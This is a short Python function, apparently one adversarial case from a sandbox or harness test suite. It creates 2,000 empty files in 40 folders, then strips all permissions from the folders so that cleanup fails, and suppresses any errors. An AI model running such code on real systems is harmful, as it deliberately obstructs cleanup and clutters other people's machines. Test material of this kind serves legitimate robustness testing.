# leave the tree | leaves thousands of files and folders that nobody may enter, so that cleaning up fails
import os
def attempt():
    try:
        for number in range(40):
            folder = "litter/%d" % number
            os.makedirs(folder)
            for other in range(50):
                open("%s/%d" % (folder, other), "w").close()
            os.chmod(folder, 0)
        os.chmod("litter", 0)
    except OSError:
        pass
    return False
